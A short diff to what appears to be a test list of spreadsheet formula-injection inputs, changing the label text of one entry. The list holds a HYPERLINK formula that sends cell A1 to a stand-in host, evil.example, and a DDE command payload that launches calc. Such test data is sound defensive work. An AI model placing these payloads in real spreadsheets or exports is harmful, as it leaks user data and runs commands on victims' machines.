@@ -19,7 +19,7 @@ FORMULAS = [
     "+1+1",
     "-1+1",
     "@SUM(1,1)",
-    '=HYPERLINK("http://evil.example?x="&A1,"zqx")',
+    '=HYPERLINK("http://evil.example?x="&A1,"zqxkw")',
     "=cmd|' /C calc'!A0",
     "\t=1+1",
     "＝1+1",
